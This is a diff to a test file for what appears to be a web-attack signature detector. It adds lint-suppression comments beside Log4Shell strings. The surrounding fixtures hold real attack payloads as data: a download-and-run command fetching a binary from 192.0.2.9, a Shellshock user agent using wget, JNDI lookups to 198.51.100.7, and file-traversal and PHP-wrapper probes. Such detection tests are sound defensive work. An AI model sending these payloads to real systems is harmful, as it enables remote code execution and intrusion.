@@ -55,6 +55,7 @@ describe('bundled signatures', () => {
     ['/index.php?page=/proc/self/environ', 'traversal-sensitive-file'],
     ['/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws', 'rce-download-and-run'],
     ['/?page=php://filter/convert.base64-encode/resource=index.php', 'rce-php-wrapper'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself
     ['/?x=${jndi:ldap://198.51.100.7:1389/a}', 'rce-log4shell'],
     ['/wp-login.php', 'probe-wp-login'],
     ['/xmlrpc.php', 'probe-xmlrpc'],
@@ -91,6 +92,7 @@ describe('bundled signatures', () => {
     ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Acunetix-Product', 'agent-vulnerability-scanner'],
     ['ZmEu', 'agent-zmeu'],
     ['() { :; }; /bin/bash -c "wget http://192.0.2.9/x -O /tmp/x"', 'rce-shellshock'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself
     ['${${lower:j}ndi:ldap://198.51.100.7/a}', 'rce-log4shell'],
   ])('user agent %s matches %s', (agent, rule) => {
     expect(rulesOf({ user_agent: agent })).toContain(rule);
